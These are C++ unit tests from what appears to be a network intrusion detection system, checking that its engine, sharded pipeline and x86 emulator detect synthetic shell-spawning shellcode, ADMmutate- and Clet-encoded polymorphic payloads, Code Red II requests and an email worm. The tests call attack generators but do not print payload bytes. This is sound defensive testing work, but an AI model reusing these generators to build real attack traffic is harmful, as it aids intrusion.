  EXPECT_NE(s.find("1.2.3.4:10"), std::string::npos);
  EXPECT_NE(s.find("5.6.7.8:80"), std::string::npos);
  EXPECT_NE(s.find("shell-spawn"), std::string::npos);
}

TEST(Engine, CustomTemplateLibrary) {
  // An engine built with only the Code Red template ignores shell spawns.
  NidsOptions options;
  options.classifier.analyze_everything = true;
  NidsEngine nids(options, {semantic::tmpl_code_red_ii()});
  gen::TraceBuilder tb(22);
  tb.add_tcp_flow(kAttacker, Endpoint{kServer, 80},
                  gen::make_shell_spawn_corpus()[0].code);
  tb.add_tcp_flow(kAttacker, Endpoint{kServer, 80}, gen::make_code_red_ii_request());
  Report report = nids.process_capture(tb.capture());
  EXPECT_FALSE(report.detected(ThreatClass::kShellSpawn));
  EXPECT_TRUE(report.detected(ThreatClass::kCodeRedII));
}

TEST(Engine, UdpPayloadAnalyzedDirectly) {
  NidsOptions options;
  options.classifier.analyze_everything = true;
  NidsEngine nids(options);
  gen::TraceBuilder tb(23);
  tb.add_udp(kAttacker, Endpoint{kServer, 69},
             gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[1].code, tb.prng()));
  Report report = nids.process_capture(tb.capture());
  EXPECT_TRUE(report.detected(ThreatClass::kShellSpawn));
}

TEST(Engine, EmptyCapture) {
  auto nids = make_engine();
  pcap::Capture empty;
  Report report = nids.process_capture(empty);
  EXPECT_TRUE(report.alerts.empty());
  EXPECT_EQ(report.stats.packets, 0u);
}

}  // namespace
}  // namespace senids::core

namespace senids::core {
namespace {

TEST(Engine, ReportStrRendersEverything) {
  gen::TraceBuilder tb(24);
  tb.add_tcp_flow(kAttacker, Endpoint{kHoneypot, 80},
                  gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[0].code, tb.prng()));
  auto nids = make_engine();
  Report report = nids.process_capture(tb.capture());
  const std::string text = report.str();
  EXPECT_NE(text.find("packets"), std::string::npos);
  EXPECT_NE(text.find("alerts"), std::string::npos);
  EXPECT_NE(text.find("192.0.2.66"), std::string::npos);
  EXPECT_NE(text.find("shell-spawn"), std::string::npos);
  EXPECT_NE(text.find("offending sources"), std::string::npos);
}

TEST(Engine, AnalyzerWorkBudgetBoundsPathologicalFrames) {
  // A frame of 200k one-byte instructions: without the budget this would
  // lift ~8192 entries x thousands of instructions.
  NidsOptions options;
  options.classifier.analyze_everything = true;
  options.analyzer.max_total_insns = 10000;
  NidsEngine nids(options);
  util::Bytes sled(200000, 0x90);
  core::Alert meta;
  NidsStats stats;
  nids.analyze_payload(sled, meta, &stats);
  EXPECT_LE(stats.analyzer.instructions_lifted, 10000u + 4096u);
}

}  // namespace
}  // namespace senids::core
