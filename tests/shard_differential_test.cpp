// Differential harness for source-affine pipeline shards: every
// generator corpus is run through a 1-shard engine and an N-shard
// engine over the *same* capture, and the reports must be
// byte-identical — same sorted alert list (every field), same
// detections, same packet/unit counts — with the verdict cache both on
// and off, and with analysis serial and threaded. This is the shard
// refactor's correctness contract: source-affine dispatch must be
// invisible in every output the pipeline produces.
//
// The second half pins the semantics that sharding is allowed to
// change: classification state (dark-space counting, honeypot taint)
// stays correct because it is per-source and sources never split
// across shards; taint persists across captures on the same engine;
// and the documented timing identities hold (dispatch_seconds == 0
// iff shards <= 1, stages[kClassify].count == packets at any shard
// count).
#include <gtest/gtest.h>

#include <cstdlib>
#include <vector>

#include "core/senids.hpp"
#include "gen/benign.hpp"
#include "gen/codered.hpp"
#include "gen/mailworm.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"

namespace senids::core {
namespace {

using net::Endpoint;
using net::Ipv4Addr;
using semantic::ThreatClass;

const Ipv4Addr kHoneypot = Ipv4Addr::from_octets(10, 0, 0, 7);
const Ipv4Addr kServer = Ipv4Addr::from_octets(10, 0, 0, 20);
const Endpoint kClient{Ipv4Addr::from_octets(198, 51, 100, 10), 45000};

constexpr ThreatClass kAllThreats[] = {
    ThreatClass::kDecryptionLoop, ThreatClass::kShellSpawn,
    ThreatClass::kPortBindShell,  ThreatClass::kReverseShell,
    ThreatClass::kCodeRedII,      ThreatClass::kCustom,
};

constexpr std::size_t kCacheBytes = 8u << 20;

Endpoint attacker(std::size_t i) {
  return Endpoint{Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(10 + i)),
                  static_cast<std::uint16_t>(30000 + i)};
}

/// Shard count for the N-shard side of every differential pair. The CI
/// TSan matrix overrides it via SENIDS_TEST_SHARDS to sweep {2, 4}.
std::size_t test_shards() {
  if (const char* env = std::getenv("SENIDS_TEST_SHARDS")) {
    const long v = std::atol(env);
    if (v > 1) return static_cast<std::size_t>(v);
  }
  return 4;
}

NidsEngine make_engine(std::size_t shards, std::size_t threads,
                       std::size_t cache_bytes) {
  NidsOptions options;
  options.classifier.analyze_everything = true;
  options.shards = shards;
  options.threads = threads;
  options.verdict_cache_bytes = cache_bytes;
  return NidsEngine(options);
}

void expect_alerts_equal(const std::vector<Alert>& a, const std::vector<Alert>& b) {
  ASSERT_EQ(a.size(), b.size());
  for (std::size_t i = 0; i < a.size(); ++i) {
    EXPECT_EQ(a[i].ts_sec, b[i].ts_sec) << "alert " << i;
    EXPECT_EQ(a[i].src.value, b[i].src.value) << "alert " << i;
    EXPECT_EQ(a[i].dst.value, b[i].dst.value) << "alert " << i;
    EXPECT_EQ(a[i].src_port, b[i].src_port) << "alert " << i;
    EXPECT_EQ(a[i].dst_port, b[i].dst_port) << "alert " << i;
    EXPECT_EQ(a[i].threat, b[i].threat) << "alert " << i;
    EXPECT_EQ(a[i].template_name, b[i].template_name) << "alert " << i;
    EXPECT_EQ(a[i].frame_reason, b[i].frame_reason) << "alert " << i;
    EXPECT_EQ(a[i].frame_offset, b[i].frame_offset) << "alert " << i;
  }
}

void expect_cache_invariant(const NidsStats& s) {
  EXPECT_EQ(s.cache_hits + s.cache_misses + s.cache_bypass, s.units_analyzed);
}

/// The harness: a 1-shard serial cache-off baseline against N-shard
/// runs across threads {1, 4} x cache {off, on}; every combination
/// must reproduce the baseline report exactly.
void expect_shards_transparent(const pcap::Capture& capture) {
  NidsEngine baseline = make_engine(1, 1, 0);
  const Report base = baseline.process_capture(capture);

  for (std::size_t threads : {std::size_t{1}, std::size_t{4}}) {
    for (std::size_t cache_bytes : {std::size_t{0}, kCacheBytes}) {
      SCOPED_TRACE(::testing::Message() << "threads=" << threads
                                        << " cache=" << cache_bytes);
      NidsEngine sharded = make_engine(test_shards(), threads, cache_bytes);
      const Report r = sharded.process_capture(capture);

      expect_alerts_equal(base.alerts, r.alerts);
      for (ThreatClass t : kAllThreats) {
        EXPECT_EQ(base.detected(t), r.detected(t)) << semantic::threat_class_name(t);
      }
      // Stage-(a) counters are per-packet and deterministic, so they
      // must survive sharding exactly. Logical-work counters survive
      // the cache too: hits replay the stored frames/emulation figures
      // (the hit/miss *split* is still schedule-dependent under
      // threads, so only the sum invariant is checked for those).
      EXPECT_EQ(base.stats.packets, r.stats.packets);
      EXPECT_EQ(base.stats.non_ip, r.stats.non_ip);
      EXPECT_EQ(base.stats.suspicious_packets, r.stats.suspicious_packets);
      EXPECT_EQ(base.stats.units_analyzed, r.stats.units_analyzed);
      EXPECT_EQ(base.stats.frames_extracted, r.stats.frames_extracted);
      EXPECT_EQ(base.stats.frames_emulated, r.stats.frames_emulated);
      EXPECT_EQ(base.stats.emulated_steps, r.stats.emulated_steps);
      EXPECT_EQ(base.stats.streams_truncated, r.stats.streams_truncated);
      if (cache_bytes > 0) {
        expect_cache_invariant(r.stats);
      } else {
        EXPECT_EQ(r.stats.cache_hits + r.stats.cache_misses + r.stats.cache_bypass,
                  0u);
      }
    }
  }
}

// ------------------------------------------------------------- corpora

pcap::Capture admmutate_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  for (std::size_t i = 0; i < 8; ++i) {
    const auto poly = gen::admmutate_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, poly.bytes);
  }
  return tb.take();
}

pcap::Capture clet_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  for (std::size_t i = 0; i < 8; ++i) {
    const auto poly = gen::clet_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, poly.bytes);
  }
  return tb.take();
}

pcap::Capture codered_corpus(std::uint64_t seed, std::size_t flows = 16) {
  gen::TraceBuilder tb(seed);
  const util::Bytes request = gen::make_code_red_ii_request();
  for (std::size_t i = 0; i < flows; ++i) {
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, request);
  }
  return tb.take();
}

pcap::Capture benign_corpus(std::uint64_t seed) {
  gen::TraceBuilder tb(seed);
  const Endpoint mx{Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  for (int i = 0; i < 20; ++i) {
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  for (int i = 0; i < 4; ++i) {
    tb.add_tcp_flow(kClient, mx, gen::make_benign_email(tb.prng()));
  }
  return tb.take();
}

pcap::Capture mixed_corpus(std::uint64_t seed) {
  // Everything at once, interleaved across many distinct sources, so
  // the dispatcher actually spreads work over shards: duplicates (Code
  // Red), polymorphic one-offs (ADMmutate/Clet), attachments, and
  // benign noise.
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  const util::Bytes request = gen::make_code_red_ii_request();
  const Endpoint mx{Ipv4Addr::from_octets(10, 0, 0, 25), 25};
  for (std::size_t i = 0; i < 6; ++i) {
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80}, request);
    const auto adm = gen::admmutate_encode(corpus[i % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i + 10), Endpoint{kServer, 80}, adm.bytes);
    const auto clet = gen::clet_encode(corpus[(i + 3) % corpus.size()].code, tb.prng());
    tb.add_tcp_flow(attacker(i + 20), Endpoint{kServer, 80}, clet.bytes);
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  const auto worm = gen::make_email_worm(tb.prng());
  tb.add_tcp_flow(attacker(30), mx, worm.smtp_payload);
  return tb.take();
}

// ------------------------------------------- N shards == 1 shard

TEST(ShardDifferential, AdmmutateCorpus) { expect_shards_transparent(admmutate_corpus(201)); }

TEST(ShardDifferential, CletCorpus) { expect_shards_transparent(clet_corpus(202)); }

TEST(ShardDifferential, CodeRedCorpus) { expect_shards_transparent(codered_corpus(203)); }

TEST(ShardDifferential, BenignCorpus) {
  const pcap::Capture capture = benign_corpus(204);
  NidsEngine sharded = make_engine(test_shards(), 1, kCacheBytes);
  const Report report = sharded.process_capture(capture);
  EXPECT_TRUE(report.alerts.empty());
  expect_shards_transparent(capture);
}

TEST(ShardDifferential, MixedCorpus) { expect_shards_transparent(mixed_corpus(205)); }

TEST(ShardDifferential, SingleSourceLandsOnOneShard) {
  // Degenerate distribution: every flow from one source hashes to one
  // shard, the others stay idle. The report must still match.
  gen::TraceBuilder tb(206);
  const util::Bytes request = gen::make_code_red_ii_request();
  for (int i = 0; i < 8; ++i) {
    tb.add_tcp_flow(attacker(0), Endpoint{kServer, static_cast<std::uint16_t>(80 + i)},
                    request);
  }
  expect_shards_transparent(tb.take());
}

// --------------------------- classification state under source affinity

/// A classification-dependent corpus (analyze_everything = false): each
/// scanner probes dark space past the threshold, then exploits a real
/// server; benign clients never probe and must stay untainted. Detecting
/// the exploits requires per-source probe counts to accumulate correctly,
/// which sharding must preserve via source affinity.
pcap::Capture scan_then_exploit_corpus(std::uint64_t seed, std::size_t scanners) {
  gen::TraceBuilder tb(seed);
  const auto corpus = gen::make_shell_spawn_corpus();
  for (std::size_t i = 0; i < scanners; ++i) {
    tb.add_syn_scan(attacker(i), Ipv4Addr::from_octets(10, 0, 200, 1), 80, 8);
    tb.add_tcp_flow(attacker(i), Endpoint{kServer, 80},
                    gen::wrap_in_overflow(corpus[i % corpus.size()].code, tb.prng()));
    tb.add_benign(kClient, kServer, gen::make_benign_payload(tb.prng()));
  }
  return tb.take();
}

NidsEngine make_classifying_engine(std::size_t shards, std::size_t threads = 1) {
  NidsOptions options;
  options.shards = shards;
  options.threads = threads;
  NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(kHoneypot);
  nids.classifier().dark_space().add_unused_prefix(
      classify::Prefix{Ipv4Addr::from_octets(10, 0, 200, 0), 24});
  return nids;
}

TEST(ShardDifferential, DarkSpaceTaintSurvivesSharding) {
  constexpr std::size_t kScanners = 12;
  const pcap::Capture capture = scan_then_exploit_corpus(207, kScanners);

  NidsEngine one = make_classifying_engine(1);
  NidsEngine many = make_classifying_engine(test_shards());
  const Report r_one = one.process_capture(capture);
  const Report r_many = many.process_capture(capture);

  EXPECT_TRUE(r_one.detected(ThreatClass::kShellSpawn));
  expect_alerts_equal(r_one.alerts, r_many.alerts);
  EXPECT_EQ(r_one.stats.suspicious_packets, r_many.stats.suspicious_packets);
  // Every scanner crossed the dark-space threshold inside its shard;
  // the benign client never probed anywhere.
  for (std::size_t i = 0; i < kScanners; ++i) {
    EXPECT_TRUE(one.is_tainted(attacker(i).ip)) << "scanner " << i;
    EXPECT_TRUE(many.is_tainted(attacker(i).ip)) << "scanner " << i;
  }
  EXPECT_FALSE(one.is_tainted(kClient.ip));
  EXPECT_FALSE(many.is_tainted(kClient.ip));
}

TEST(ShardDifferential, TaintPersistsAcrossCaptures) {
  // Capture 1 only scans; capture 2 only exploits. The exploit is
  // caught iff the scanner's taint survived the capture boundary —
  // per-shard classifier state must persist like the embedded state.
  gen::TraceBuilder scan_tb(208);
  scan_tb.add_syn_scan(attacker(3), Ipv4Addr::from_octets(10, 0, 200, 1), 80, 8);
  const pcap::Capture scan = scan_tb.take();

  gen::TraceBuilder exploit_tb(209);
  const auto corpus = gen::make_shell_spawn_corpus();
  exploit_tb.add_tcp_flow(attacker(3), Endpoint{kServer, 80},
                          gen::wrap_in_overflow(corpus[0].code, exploit_tb.prng()));
  const pcap::Capture exploit = exploit_tb.take();

  NidsEngine many = make_classifying_engine(test_shards());
  const Report r_scan = many.process_capture(scan);
  EXPECT_TRUE(r_scan.alerts.empty());
  EXPECT_TRUE(many.is_tainted(attacker(3).ip));
  const Report r_exploit = many.process_capture(exploit);
  EXPECT_TRUE(r_exploit.detected(ThreatClass::kShellSpawn));
}

TEST(ShardDifferential, DarkSourceEvictionsCounted) {
  // Satellite: the per-source dark-space counter table is LRU-bounded
  // and evictions surface in NidsStats at any shard count.
  gen::TraceBuilder tb(210);
  for (std::size_t i = 0; i < 32; ++i) {
    tb.add_syn_scan(attacker(i), Ipv4Addr::from_octets(10, 0, 200, 1), 80, 2);
  }
  const pcap::Capture capture = tb.take();

  for (std::size_t shards : {std::size_t{1}, test_shards()}) {
    SCOPED_TRACE(::testing::Message() << "shards=" << shards);
    NidsOptions options;
    options.shards = shards;
    options.classifier.dark_space_max_sources = 4;
    NidsEngine nids(options);
    nids.classifier().dark_space().add_unused_prefix(
        classify::Prefix{Ipv4Addr::from_octets(10, 0, 200, 0), 24});
    const Report report = nids.process_capture(capture);
    EXPECT_GT(report.stats.dark_sources_evicted, 0u);
  }
}

// ------------------------------------------------- timing identities

TEST(ShardSemantics, DispatchSecondsZeroWithoutShards) {
  const pcap::Capture capture = mixed_corpus(211);
  NidsEngine one = make_engine(1, 1, 0);
  const Report report = one.process_capture(capture);
  // Documented identity: dispatch_seconds == 0 whenever shards <= 1.
  EXPECT_EQ(report.stats.dispatch_seconds, 0.0);
  EXPECT_GE(report.stats.classify_seconds, 0.0);
}

TEST(ShardSemantics, ClassifyStageCountsEveryPacketAtAnyShardCount) {
  const pcap::Capture capture = mixed_corpus(212);
  constexpr auto kClassify = static_cast<std::size_t>(obs::Stage::kClassify);
  for (std::size_t shards : {std::size_t{1}, test_shards()}) {
    SCOPED_TRACE(::testing::Message() << "shards=" << shards);
    NidsEngine nids = make_engine(shards, 1, 0);
    const Report report = nids.process_capture(capture);
    // Documented identity: every packet gets exactly one classify-stage
    // observation, even records whose source cannot be peeked.
    EXPECT_EQ(report.stats.stages[kClassify].count, report.stats.packets);
  }
}

TEST(ShardSemantics, DispatchWallAccountedWhenSharded) {
  // Hundreds of records so the dispatcher's wall clock is measurably
  // nonzero when metrics are on (they are, by default, in tests).
  const pcap::Capture capture = codered_corpus(213, /*flows=*/64);
  NidsEngine many = make_engine(test_shards(), 1, 0);
  const Report report = many.process_capture(capture);
  EXPECT_GT(report.stats.dispatch_seconds, 0.0);
  EXPECT_GE(report.stats.classify_seconds, 0.0);
}

}  // namespace
}  // namespace senids::core
