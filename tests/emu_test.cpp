#include <gtest/gtest.h>

#include "emu/shellemu.hpp"
#include "gen/emitter.hpp"
#include "gen/poly.hpp"
#include "gen/shellcode.hpp"

namespace senids::emu {
namespace {

using gen::Asm;
using gen::R32;
using gen::R8;
using util::Bytes;

// ---------------------------------------------------------------- memory

TEST(VirtualMemory, FrameMapping) {
  Bytes frame{0x11, 0x22, 0x33, 0x44};
  VirtualMemory mem(frame);
  EXPECT_EQ(mem.read8(kFrameBase).value(), 0x11);
  EXPECT_EQ(mem.read32(kFrameBase).value(), 0x44332211u);
  EXPECT_FALSE(mem.read8(kFrameBase + 4).has_value());
  EXPECT_FALSE(mem.read8(0).has_value());
}

TEST(VirtualMemory, StackZeroBacked) {
  Bytes frame{0x00};
  VirtualMemory mem(frame);
  EXPECT_EQ(mem.read32(kStackTop - 0x100).value(), 0u);
  EXPECT_TRUE(mem.write32(kStackTop - 0x100, 0xdeadbeef));
  EXPECT_EQ(mem.read32(kStackTop - 0x100).value(), 0xdeadbeefu);
}

TEST(VirtualMemory, OverlayTracksFrameWrites) {
  Bytes frame(16, 0xAA);
  VirtualMemory mem(frame);
  EXPECT_EQ(mem.frame_bytes_modified(), 0u);
  mem.write8(kFrameBase + 3, 0x55);
  mem.write8(kFrameBase + 3, 0x66);  // same byte twice: counted once
  EXPECT_EQ(mem.frame_bytes_modified(), 1u);
  Bytes snap = mem.snapshot_frame();
  EXPECT_EQ(snap[3], 0x66);
  EXPECT_EQ(snap[2], 0xAA);
  EXPECT_EQ(frame[3], 0xAA);  // original untouched
}

TEST(VirtualMemory, WriteOutsideSandboxFails) {
  Bytes frame{0x00};
  VirtualMemory mem(frame);
  EXPECT_FALSE(mem.write8(0x12345678, 1));
}

TEST(VirtualMemory, ReadCString) {
  Bytes frame = util::to_bytes("abc");
  frame.push_back(0);
  VirtualMemory mem(frame);
  EXPECT_EQ(mem.read_cstring(kFrameBase).value(), "abc");
}

// ------------------------------------------------------------------- cpu

/// Run assembled code and return the CPU for register inspection.
struct RunResult {
  StopReason stop;
  std::array<std::uint32_t, 8> regs;
  std::size_t steps;
};

RunResult run_code(const Bytes& code, std::size_t max_steps = 10000) {
  VirtualMemory mem(code);
  Cpu cpu(mem, kFrameBase);
  RunResult r;
  r.stop = cpu.run(max_steps);
  for (unsigned f = 0; f < 8; ++f) r.regs[f] = cpu.reg(static_cast<arch::RegFamily>(f));
  r.steps = cpu.steps();
  return r;
}

std::uint32_t reg(const RunResult& r, R32 f) {
  return r.regs[static_cast<unsigned>(f)];
}

/// Append hlt so runs stop deterministically.
Bytes with_hlt(Asm& a) {
  a.raw8(0xF4);
  return a.finish();
}

TEST(Cpu, BasicArithmetic) {
  Asm a;
  a.mov_r32_imm32(R32::eax, 10);
  a.mov_r32_imm32(R32::ebx, 32);
  a.alu_r32_r32(0, R32::eax, R32::ebx);  // add
  a.alu_r32_imm(5, R32::ebx, 2);         // sub ebx, 2
  RunResult r = run_code(with_hlt(a));
  EXPECT_EQ(r.stop, StopReason::kHalted);
  EXPECT_EQ(reg(r, R32::eax), 42u);
  EXPECT_EQ(reg(r, R32::ebx), 30u);
}

TEST(Cpu, SubRegisterWrites) {
  Asm a;
  a.mov_r32_imm32(R32::ebx, 0x11223344);
  a.mov_r8_imm8(R8::bl, 0x99);
  a.mov_r8_imm8(R8::bh, 0x88);
  RunResult r = run_code(with_hlt(a));
  EXPECT_EQ(reg(r, R32::ebx), 0x11228899u);
}

TEST(Cpu, PushPopRoundTrip) {
  Asm a;
  a.push_imm32(0xCAFEBABE);
  a.pop_r32(R32::edx);
  RunResult r = run_code(with_hlt(a));
  EXPECT_EQ(reg(r, R32::edx), 0xCAFEBABEu);
}

TEST(Cpu, FlagsAndConditionals) {
  // if (eax == 5) ebx = 1 else ebx = 2
  Asm a;
  auto lelse = a.new_label();
  auto lend = a.new_label();
  a.mov_r32_imm32(R32::eax, 5);
  a.cmp_r32_imm8(R32::eax, 5);
  a.jcc(0x5, lelse);  // jne
  a.mov_r32_imm32(R32::ebx, 1);
  a.jmp_short(lend);
  a.bind(lelse);
  a.mov_r32_imm32(R32::ebx, 2);
  a.bind(lend);
  RunResult r = run_code(with_hlt(a));
  EXPECT_EQ(reg(r, R32::ebx), 1u);
}

TEST(Cpu, LoopInstructionCounts) {
  Asm a;
  auto head = a.new_label();
  a.mov_r32_imm32(R32::ecx, 10);
  a.xor_r32_r32(R32::eax, R32::eax);
  a.bind(head);
  a.inc_r32(R32::eax);
  a.loop_(head);
  RunResult r = run_code(with_hlt(a));
  EXPECT_EQ(reg(r, R32::eax), 10u);
  EXPECT_EQ(reg(r, R32::ecx), 0u);
}

TEST(Cpu, DecJnzLoop) {
  Asm a;
  auto head = a.new_label();
  a.mov_r32_imm32(R32::ecx, 7);
  a.xor_r32_r32(R32::edx, R32::edx);
  a.bind(head);
  a.add_r32_imm(R32::edx, 3);
  a.dec_r32(R32::ecx);
  a.jnz(head);
  RunResult r = run_code(with_hlt(a));
  EXPECT_EQ(reg(r, R32::edx), 21u);
}

TEST(Cpu, CallRetAndGetPc) {
  Asm a;
  auto lmain = a.new_label();
  auto lget = a.new_label();
  a.jmp_short(lget);
  a.bind(lmain);
  a.pop_r32(R32::esi);  // esi = VA of the byte after the call
  a.raw8(0xF4);
  a.bind(lget);
  a.call(lmain);
  Bytes code = a.finish();
  const std::uint32_t expected = kFrameBase + static_cast<std::uint32_t>(code.size());
  RunResult r = run_code(code);
  EXPECT_EQ(r.stop, StopReason::kHalted);
  EXPECT_EQ(reg(r, R32::esi), expected);
}

TEST(Cpu, SelfModifyingDecoderDecodes) {
  // Build an iis-asp-style decoder and let it decrypt: afterwards the
  // frame must contain the plaintext payload.
  const std::uint8_t key = 0x5A;
  Bytes payload = gen::make_shell_spawn_corpus()[1].code;
  Bytes wrapped = gen::make_iis_asp_overflow_payload(key);

  VirtualMemory mem(wrapped);
  Cpu cpu(mem, kFrameBase);
  // The decoded payload's execve stops via the syscall hook.
  bool saw_execve = false;
  auto hook = [&](const SyscallRecord& rec) -> std::optional<std::uint32_t> {
    if (rec.vector == 0x80 && (rec.reg(arch::RegFamily::kAx) & 0xff) == 0x0b) {
      saw_execve = true;
      return std::nullopt;
    }
    return 0;
  };
  StopReason stop = cpu.run(100000, hook);
  EXPECT_EQ(stop, StopReason::kSyscallStop);
  EXPECT_TRUE(saw_execve);
  EXPECT_EQ(mem.frame_bytes_modified(), payload.size());
  // The decoded tail equals the plaintext.
  Bytes snap = mem.snapshot_frame();
  Bytes tail(snap.end() - static_cast<std::ptrdiff_t>(payload.size()), snap.end());
  EXPECT_EQ(tail, payload);
}

TEST(Cpu, StringOperations) {
  // rep movsb copies a string within the frame.
  Asm a;
  a.mov_r32_imm32(R32::esi, kFrameBase + 0x40);
  a.mov_r32_imm32(R32::edi, kFrameBase + 0x50);
  a.mov_r32_imm32(R32::ecx, 4);
  a.raw8(0xFC);  // cld
  a.raw8(0xF3);  // rep
  a.raw8(0xA4);  // movsb
  a.raw8(0xF4);  // hlt
  Bytes code = a.finish();
  code.resize(0x60, 0);
  code[0x40] = 'W';
  code[0x41] = 'X';
  code[0x42] = 'Y';
  code[0x43] = 'Z';

  VirtualMemory mem(code);
  Cpu cpu(mem, kFrameBase);
  EXPECT_EQ(cpu.run(1000), StopReason::kHalted);
  Bytes snap = mem.snapshot_frame();
  EXPECT_EQ(snap[0x50], 'W');
  EXPECT_EQ(snap[0x53], 'Z');
  EXPECT_EQ(cpu.reg(arch::RegFamily::kCx), 0u);
}

TEST(Cpu, StopsOnInvalidInstruction) {
  Bytes code{0xD8, 0xD8};  // x87: undecodable
  RunResult r = run_code(code);
  EXPECT_EQ(r.stop, StopReason::kInvalidInsn);
}

TEST(Cpu, StopsOnUnmappedJump) {
  Asm a;
  a.mov_r32_imm32(R32::eax, 0x12345678);
  a.raw8(0xFF);
  a.raw8(0xE0);  // jmp eax
  RunResult r = run_code(a.finish());
  EXPECT_EQ(r.stop, StopReason::kUnmappedFetch);
}

TEST(Cpu, StopsOnUnmappedAccess) {
  Asm a;
  a.mov_r32_imm32(R32::eax, 0x00001000);
  a.mov_r32_mem(R32::ebx, R32::eax);  // read from unmapped page
  RunResult r = run_code(with_hlt(a));
  EXPECT_EQ(r.stop, StopReason::kUnmappedAccess);
}

TEST(Cpu, BudgetStopsRunawayLoops) {
  Asm a;
  auto head = a.new_label();
  a.bind(head);
  a.jmp_short(head);
  RunResult r = run_code(a.finish(), 100);
  EXPECT_EQ(r.stop, StopReason::kMaxSteps);
  EXPECT_EQ(r.steps, 100u);
}

TEST(Cpu, DivideByZeroFaults) {
  Asm a;
  a.xor_r32_r32(R32::ebx, R32::ebx);
  a.raw8(0xF7);
  a.raw8(0xF3);  // div ebx
  RunResult r = run_code(with_hlt(a));
  EXPECT_EQ(r.stop, StopReason::kDivByZero);
}

TEST(Cpu, ShiftsAndRotates) {
  Asm a;
  a.mov_r8_imm8(R8::al, 0x81);
  a.shift_r8_imm8(0, R8::al, 1);  // rol al, 1 -> 0x03
  a.mov_r8_imm8(R8::bl, 0x81);
  a.shift_r8_imm8(1, R8::bl, 1);  // ror bl, 1 -> 0xC0
  a.mov_r8_imm8(R8::dl, 0x0F);
  a.shift_r8_imm8(4, R8::dl, 2);  // shl dl, 2 -> 0x3C
  RunResult r = run_code(with_hlt(a));
  EXPECT_EQ(reg(r, R32::eax) & 0xff, 0x03u);
  EXPECT_EQ(reg(r, R32::ebx) & 0xff, 0xC0u);
  EXPECT_EQ(reg(r, R32::edx) & 0xff, 0x3Cu);
}

// -------------------------------------------------------------- shellemu

TEST(ShellEmu, DetectsShellSpawnAcrossCorpus) {
  for (const auto& sample : gen::make_shell_spawn_corpus()) {
    EmulationResult r = emulate_frame(sample.code);
    EXPECT_TRUE(r.spawned_shell()) << sample.name;
    if (sample.binds_port) {
      EXPECT_TRUE(r.bound_port()) << sample.name;
    }
  }
}

TEST(ShellEmu, ExecvePathResolvedFromMemory) {
  EmulationResult r = emulate_frame(gen::make_shell_spawn_corpus()[1].code);
  ASSERT_TRUE(r.spawned_shell());
  bool found = false;
  for (const auto& s : r.syscalls) {
    if ((s.eax & 0xff) == 0x0b) {
      EXPECT_EQ(s.ebx_string.rfind("/bin", 0), 0u);
      found = true;
    }
  }
  EXPECT_TRUE(found);
}

TEST(ShellEmu, DecodesPolymorphicInstanceAndFindsShell) {
  // The headline dynamic capability: an ADMmutate-encrypted payload runs,
  // decodes itself, and the execve still surfaces.
  for (std::uint64_t seed = 0; seed < 10; ++seed) {
    util::Prng prng(seed);
    auto poly = gen::admmutate_encode(gen::make_shell_spawn_corpus()[1].code, prng);
    EmulationResult r = emulate_frame(poly.bytes);
    EXPECT_TRUE(r.spawned_shell()) << "seed " << seed;
    EXPECT_GT(r.frame_bytes_modified, 0u) << "seed " << seed;
  }
}

TEST(ShellEmu, CletInstanceDecodes) {
  util::Prng prng(99);
  auto clet = gen::clet_encode(gen::make_shell_spawn_corpus()[1].code, prng);
  EmulationResult r = emulate_frame(clet.bytes);
  EXPECT_TRUE(r.spawned_shell());
}

TEST(ShellEmu, DecodedFrameExposesPlaintext) {
  util::Prng prng(7);
  const Bytes payload = gen::make_shell_spawn_corpus()[1].code;
  auto poly = gen::admmutate_encode(payload, prng);
  EmulationResult r = emulate_frame(poly.bytes);
  ASSERT_GT(r.frame_bytes_modified, 0u);
  // The decoded frame must contain the plaintext payload bytes.
  ASSERT_GE(r.decoded_frame.size(), payload.size());
  Bytes tail(r.decoded_frame.end() - static_cast<std::ptrdiff_t>(payload.size()),
             r.decoded_frame.end());
  EXPECT_EQ(tail, payload);
}

TEST(ShellEmu, BenignTextProducesNoBehavior) {
  std::string text;
  for (int i = 0; i < 100; ++i) text += "plain old web page content here ";
  EmulationResult r = emulate_frame(util::as_bytes(text));
  EXPECT_FALSE(r.spawned_shell());
  EXPECT_FALSE(r.bound_port());
  EXPECT_FALSE(r.made_syscall());
}

TEST(ShellEmu, RandomBytesProduceNoBehavior) {
  util::Prng prng(123);
  for (int trial = 0; trial < 5; ++trial) {
    auto noise = prng.bytes(2048);
    EmulationResult r = emulate_frame(noise);
    EXPECT_FALSE(r.spawned_shell()) << trial;
    EXPECT_FALSE(r.bound_port()) << trial;
  }
}

TEST(ShellEmu, EmptyAndOutOfRange) {
  Bytes empty;
  EmulationResult r = emulate_frame(empty);
  EXPECT_FALSE(r.made_syscall());
  EmulationResult r2 = emulate_entry(util::as_bytes("x"), 100);
  EXPECT_EQ(r2.stop, StopReason::kUnmappedFetch);
}

}  // namespace
}  // namespace senids::emu

namespace senids::emu {
namespace {

TEST(FnstenvGetPc, EmulatorResolvesFip) {
  // fldz; fnstenv [esp-12]; pop eax => eax = VA of the fldz.
  gen::Asm a;
  a.raw8(0xD9);
  a.raw8(0xEE);  // fldz
  a.raw8(0xD9);
  a.raw8(0x74);
  a.raw8(0x24);
  a.raw8(0xF4);  // fnstenv [esp-12]
  a.pop_r32(gen::R32::eax);
  a.raw8(0xF4);  // hlt
